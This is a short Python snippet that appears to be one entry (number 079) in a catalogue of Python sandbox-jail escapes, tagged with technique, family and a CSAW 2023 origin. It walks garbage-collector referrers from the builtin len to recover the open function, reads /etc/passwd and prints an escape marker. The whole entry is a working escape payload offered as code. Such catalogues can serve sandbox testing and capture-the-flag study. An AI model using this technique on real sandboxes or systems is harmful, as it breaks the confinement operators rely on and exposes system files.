# escape: 079
# technique: gc.get_referrers from a harmless object to the dicts that hold it
# family: gcwalk
# goal: builtins
# first-seen: CSAW 2023
import gc
for d in gc.get_referrers(len):
    if type(d) is dict and 'open' in d:
        if 'root:' in d['open']('/etc/passwd').readline(): print('ESCAPED:referrers'); break
